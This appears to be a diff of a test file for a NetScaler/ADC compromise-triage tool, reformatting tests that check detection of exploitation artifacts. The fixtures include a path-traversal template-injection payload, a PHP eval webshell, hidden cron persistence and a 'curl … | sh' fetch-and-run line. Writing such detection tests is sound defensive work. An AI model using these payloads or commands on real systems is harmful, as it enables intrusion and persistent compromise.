@@ -27,7 +27,7 @@ describe('clean collections', () => {
     });
     spec.meta = {
       ...spec.meta,
-      'errors.txt': "find: /tmp/.init/httpd: No such file or directory\ncurl wget template.new\n",
+      'errors.txt': 'find: /tmp/.init/httpd: No such file or directory\ncurl wget template.new\n',
       'collect.txt': `hostname: adc1\nns_version: 13.0-47.22\noutput_dir: ${own}\n`,
     };
     const r = await triageSpec(spec);
@@ -36,13 +36,19 @@ describe('clean collections', () => {
 });
 
 describe('portal dirs (§4.1, §4.2#1–3)', () => {
-  const payload = '<user username="../../../netscaler/portal/templates/a1b2"><bookmark title="[% template.new({\'BLOCK\'=\'print readpipe(chr(105) . chr(100))\'})%]" url="http://127.0.0.1"/></user>';
+  const payload =
+    '<user username="../../../netscaler/portal/templates/a1b2"><bookmark title="[% template.new({\'BLOCK\'=\'print readpipe(chr(105) . chr(100))\'})%]" url="http://127.0.0.1"/></user>';
 
   it('template payload in the templates dir: high exploitation with line and mtime', async () => {
     const r = await triageSpec(withFiles({ '/netscaler/portal/templates/a1b2.xml': { content: `<?xml?>\n${payload}\n`, mode: 0o644 } }));
     expect(rulesOf(r)).toEqual(['template-payload:high']);
     const f = r.findings[0];
-    expect(f).toMatchObject({ kind: 'exploitation', path: '/netscaler/portal/templates/a1b2.xml', line: 2, time: new Date(T2020 * 1000).toISOString() });
+    expect(f).toMatchObject({
+      kind: 'exploitation',
+      path: '/netscaler/portal/templates/a1b2.xml',
+      line: 2,
+      time: new Date(T2020 * 1000).toISOString(),
+    });
     expect(f.excerpt).toContain('template.new');
     expect(r.summary.verdict).toBe('compromised');
   });
@@ -80,8 +86,15 @@ describe('portal dirs (§4.1, §4.2#1–3)', () => {
   });
 
   it('mode 644 is low (anomaly only: attempts_only), bm_prefix_ files are exempt', async () => {
-    const r = await triageSpec(withFiles({ '/var/vpn/bookmark/custom.xml': { content: '<user/>', mode: 0o644 }, '/var/vpn/bookmark/bm_prefix_x.xml': { content: '<user/>', mode: 0o644 } }));
-    expect(r.findings.map((f) => [f.rule, f.confidence, f.path])).toEqual([['portal-file-permissions', 'low', '/var/vpn/bookmark/custom.xml']]);
+    const r = await triageSpec(
+      withFiles({
+        '/var/vpn/bookmark/custom.xml': { content: '<user/>', mode: 0o644 },
+        '/var/vpn/bookmark/bm_prefix_x.xml': { content: '<user/>', mode: 0o644 },
+      }),
+    );
+    expect(r.findings.map((f) => [f.rule, f.confidence, f.path])).toEqual([
+      ['portal-file-permissions', 'low', '/var/vpn/bookmark/custom.xml'],
+    ]);
     expect(r.summary.verdict).toBe('attempts_only');
   });
 
@@ -133,7 +146,9 @@ describe('left-behind files (§4.2#4–9, §4.6–§4.8)', () => {
 
 describe('PHP (§4.2#19, §4.8)', () => {
   it('writable PHP under /var/vpn is medium; webshell strings are high', async () => {
-    const r = await triageSpec(withFiles({ '/var/vpn/config.php': { content: '<?php http_response_code(201);@eval($_POST["c"]);', mode: 0o644 } }));
+    const r = await triageSpec(
+      withFiles({ '/var/vpn/config.php': { content: '<?php http_response_code(201);@eval($_POST["c"]);', mode: 0o644 } }),
+    );
     expect(rulesOf(r)).toEqual(['php-content:high', 'php-permission:medium']);
   });
 
@@ -146,20 +161,30 @@ describe('PHP (§4.2#19, §4.8)', () => {
       }),
     );
     expect(r.findings).toEqual([]);
-    const hit = await triageSpec(withFiles({ '/var/netscaler/logon/LogonPoint/x.php': { content: '<?php $x = base64_decode($q);', mode: 0o444 } }));
+    const hit = await triageSpec(
+      withFiles({ '/var/netscaler/logon/LogonPoint/x.php': { content: '<?php $x = base64_decode($q);', mode: 0o444 } }),
+    );
     expect(rulesOf(hit)).toEqual(['php-content:high']);
   });
 });
 
 describe('cron (§4.2#10, #20)', () => {
   it('a nobody crontab file is high, even when only listed', async () => {
-    const r = await triageSpec(withFiles({ '/var/cron/tabs/nobody': { content: '* * * * * /var/nstmp/.nscache/httpd\n', copy: false, mode: 0o600 } }));
+    const r = await triageSpec(
+      withFiles({ '/var/cron/tabs/nobody': { content: '* * * * * /var/nstmp/.nscache/httpd\n', copy: false, mode: 0o600 } }),
+    );
     expect(rulesOf(r)).toEqual(['cron-nobody:high']);
   });
 
   it('crontab.txt: nobody entries high, IPv4 or /var/tmp commands of root medium', async () => {
     const r = await triageSpec(
-      withFiles({}, { 'crontab.txt': '# user: root\n0 * * * * /usr/bin/newsyslog\n*/5 * * * * /var/tmp/x.sh\n# user: nobody\n* * * * * curl http://1.2.3.4/ci.sh | sh\n' }),
+      withFiles(
+        {},
+        {
+          'crontab.txt':
+            '# user: root\n0 * * * * /usr/bin/newsyslog\n*/5 * * * * /var/tmp/x.sh\n# user: nobody\n* * * * * curl http://1.2.3.4/ci.sh | sh\n',
+        },
+      ),
     );
     expect(r.findings.map((f) => [f.rule, f.confidence, f.line])).toEqual([
       ['cron-nobody', 'high', 5],
@@ -168,7 +193,9 @@ describe('cron (§4.2#10, #20)', () => {
   });
 
   it('/etc/crontab user column', async () => {
-    const r = await triageSpec(withFiles({ '/etc/crontab': '*/1 * * * * nobody /var/nstmp/.nscache/httpd\n0 0 * * * root /usr/libexec/atrun\n' }));
+    const r = await triageSpec(
+      withFiles({ '/etc/crontab': '*/1 * * * * nobody /var/nstmp/.nscache/httpd\n0 0 * * * root /usr/libexec/atrun\n' }),
+    );
     expect(r.findings.filter((f) => f.rule === 'cron-nobody').map((f) => f.confidence)).toEqual(['high']);
   });
 });
@@ -222,7 +249,14 @@ describe('not checked', () => {
   it('an offline collection without listings says what it could not check', async () => {
     const r = await triageSpec({ files: { '/netscaler/portal/templates/x.tmpl': 'x' }, noStat: true });
     const text = r.not_checked.join('\n');
-    for (const want of ['meta/ps.txt missing', 'meta/sockstat.txt missing', 'meta/suid.txt missing', 'timestomping', 'crontabs', 'portal file permissions']) {
+    for (const want of [
+      'meta/ps.txt missing',
+      'meta/sockstat.txt missing',
+      'meta/suid.txt missing',
+      'timestomping',
+      'crontabs',
+      'portal file permissions',
+    ]) {
       expect(text).toContain(want);
     }
     expect(r.summary.verdict).toBe('clean');
